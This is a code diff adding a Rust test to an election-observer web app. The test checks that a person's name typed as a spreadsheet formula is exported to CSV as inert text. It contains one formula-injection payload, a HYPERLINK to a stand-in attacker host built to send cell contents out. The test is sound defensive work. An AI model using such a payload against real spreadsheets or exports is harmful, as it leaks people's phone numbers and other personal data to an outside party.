@@ -214,3 +214,25 @@ async fn the_command_line_import_builds_an_election_from_files() {
     assert_eq!(rows.iter().map(|r| r.stations).collect::<Vec<_>>(), vec![2, 1]);
     assert_eq!(rows[0].registered_voters, 2400);
 }
+
+/// A name an organisation's admin types as a formula would run in the coalition admin's
+/// spreadsheet, and could send everyone's phone numbers away: the export writes it as text.
+#[tokio::test]
+async fn a_name_typed_as_a_formula_is_exported_as_text() {
+    let app = spawn_app().await;
+    let org_admin = app.login("orgadmin", DEMO_PASSWORD).await;
+    let formula = r#"=HYPERLINK("https://evil.example/?p="&E3&E4,"Details")"#;
+    let created = app
+        .post_form(
+            &org_admin,
+            "/people",
+            &[("username", "formula.name"), ("full_name", formula), ("role", "observer"), ("stations", "17/2")],
+        )
+        .await;
+    assert!(created.status().is_success(), "{}", created.status());
+    let admin = app.login("admin", DEMO_PASSWORD).await;
+    let export = app.get(&admin, "/exports/people.csv").await.text().await.unwrap();
+    let line = export.lines().find(|line| line.contains("formula.name")).expect("exported");
+    assert!(line.contains(r#""'=HYPERLINK(""https://evil.example"#), "{line}");
+    assert!(!line.contains(r#","=HYPERLINK"#), "{line}");
+}
